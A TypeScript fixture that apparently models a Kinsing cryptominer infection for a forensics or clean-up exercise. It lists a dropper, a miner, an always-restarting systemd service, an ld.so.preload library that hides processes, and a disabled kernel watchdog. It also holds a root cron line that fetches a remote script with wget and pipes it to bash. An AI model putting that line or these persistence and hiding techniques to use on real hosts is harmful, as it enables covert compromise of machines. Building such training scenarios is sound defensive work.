import { type Infection, miner, minerWords } from '../host-part.ts'

const cronLine = '* * * * * wget -q -O - http://198.51.100.19/unk.sh | bash > /dev/null 2>&1'

/** families.md §5: a dropper that restarts its miner, both hidden by a library in ld.so.preload. */
export const kinsing: Infection = {
  family: 'kinsing',
  known: true,
  title: 'Kinsing: a dropper and its miner, hidden by a preloaded library',
  story: [
    '/etc/kinsing and /tmp/kdevtmpfsi watch each other; kdevtmpfsi sounds like a kernel thread and mines.',
    'A library named in /etc/ld.so.preload hides both from ls and ps; a legitimate line stands beside it.',
    'bot.service and a cron line of every minute start it again; the line comes back within half a second.',
    'The kernel watchdog was switched off in sysctl.conf.',
  ],
  items: [
    {
      kind: 'file',
      path: '/etc/kinsing',
      content: {
        lookalike: {
          burn: 5,
          stubborn: true,
          once: 'kinsing',
          keeps: ['/tmp/kdevtmpfsi', '/etc/libsystem.so'],
          keepsLines: [
            { path: '/var/spool/cron/crontabs/root', text: cronLine },
            { path: '/etc/ld.so.preload', text: '/etc/libsystem.so' },
          ],
          keepsRunning: ['/tmp/kdevtmpfsi'],
        },
      },
      mode: 0o755,
    },
    {
      kind: 'file',
      path: '/tmp/kdevtmpfsi',
      content: {
        lookalike: {
          ...miner,
          stubborn: true,
          once: 'kdevtmpfsi',
          keeps: ['/etc/kinsing'],
          keepsRunning: ['/etc/kinsing'],
        },
        words: minerWords,
      },
      mode: 0o755,
    },
    { kind: 'file', path: '/var/tmp/kdevtmpfsi', content: { copyOf: '/tmp/kdevtmpfsi' }, mode: 0o755 },
    {
      kind: 'file',
      path: '/lib/systemd/system/bot.service',
      content: {
        text: '[Unit]\nDescription=Start daemon at boot time\nAfter=network.target\n\n[Service]\nType=simple\nRestart=always\nRestartSec=1\nExecStart=/etc/kinsing\n\n[Install]\nWantedBy=multi-user.target\n',
      },
    },
    { kind: 'unit', name: 'bot.service', path: '/lib/systemd/system/bot.service' },
    { kind: 'line', path: '/var/spool/cron/crontabs/root', text: cronLine, mode: 0o600 },
    { kind: 'line', path: '/etc/sysctl.conf', text: 'kernel.nmi_watchdog=0' },
    { kind: 'process', path: '/etc/kinsing', argv: [], startedBy: 'bot.service' },
    { kind: 'process', path: '/tmp/kdevtmpfsi', argv: [], startedBy: '/etc/kinsing' },
    {
      kind: 'file',
      path: '/etc/libsystem.so',
      content: { library: 'hide-readdir', hides: ['kinsing', 'kdevtmpfsi', 'libsystem.so'] },
      mode: 0o755,
    },
    { kind: 'line', path: '/etc/ld.so.preload', text: '/etc/libsystem.so', mode: 0o644 },
  ],
}
